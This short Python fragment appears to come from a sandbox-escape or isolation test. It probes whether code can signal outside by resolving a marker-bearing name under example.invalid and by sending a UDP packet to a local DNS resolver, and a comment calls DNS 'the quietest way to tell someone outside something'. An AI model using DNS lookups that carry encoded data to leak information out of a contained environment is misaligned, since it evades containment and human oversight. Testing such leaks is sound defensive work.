# Asks for the address of a name, the quietest way to tell someone outside something.
# outside: no; a machine need not have a resolver.
attempt("resolve", lambda: socket.getaddrinfo(f"{world['marker']}.example.invalid", 80))
attempt("dns by hand", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.53", 53)))
